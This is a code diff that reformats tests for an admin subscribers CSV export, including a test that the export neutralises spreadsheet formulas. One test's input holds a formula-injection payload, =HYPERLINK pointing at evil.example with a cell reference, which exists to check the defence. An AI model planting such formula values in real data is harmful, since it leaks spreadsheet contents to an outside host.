@@ -41,7 +41,10 @@ describe('admin.subscribers', () => {
     expect(res.statusCode).toBe(200);
     expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
     expect(res.headers['content-disposition']).toBe('attachment; filename="subscribers.csv"');
-    const lines = res.body.replace(/^\uFEFF/, '').trim().split('\r\n');
+    const lines = res.body
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n');
     expect(lines[0]).toBe('email,name,status,subscribed');
     expect(lines).toHaveLength(5);
     expect(lines[2]).toMatch(/^cleo@example\.org,'-cleo,active,\d{4}-/);
@@ -52,12 +55,16 @@ describe('admin.subscribers', () => {
     const [first] = (await as().admin.subscribers.list({})).items;
     await as().admin.subscribers.remove({ id: first!.id });
     expect((await as().admin.subscribers.list({})).total).toBe(3);
-    const again = await as().admin.subscribers.remove({ id: first!.id }).catch((e: unknown) => e);
+    const again = await as()
+      .admin.subscribers.remove({ id: first!.id })
+      .catch((e: unknown) => e);
     expect((again as TRPCError).code).toBe('NOT_FOUND');
   });
 
   it('quotes a name with a line break and neutralises a formula on each of its lines', async () => {
-    await t.caller(null, '10.1.0.9').subscribers.subscribe({ email: 'dana@example.com', name: 'Dana\n=HYPERLINK("https://evil.example/?"&A2)' });
+    await t
+      .caller(null, '10.1.0.9')
+      .subscribers.subscribe({ email: 'dana@example.com', name: 'Dana\n=HYPERLINK("https://evil.example/?"&A2)' });
     const { cookie } = await signIn(t.orm, { isAdmin: true });
     const res = await t.app.inject({ method: 'GET', url: '/api/admin/subscribers.csv', headers: { cookie } });
     const rows = parse(res.body, { bom: true }) as string[][];
@@ -65,6 +72,11 @@ describe('admin.subscribers', () => {
     const dana = rows.find((r) => r[0] === 'dana@example.com');
     expect(dana?.[1]).toBe('Dana\n\'=HYPERLINK("https://evil.example/?"&A2)');
     expect(rows.every((r) => r.length === 4)).toBe(true);
-    expect(rows.flat().flatMap((c) => c.split(/\r\n|\r|\n/)).filter((l) => /^[=+\-@\t]/.test(l))).toEqual([]);
+    expect(
+      rows
+        .flat()
+        .flatMap((c) => c.split(/\r\n|\r|\n/))
+        .filter((l) => /^[=+\-@\t]/.test(l)),
+    ).toEqual([]);
   });
 });
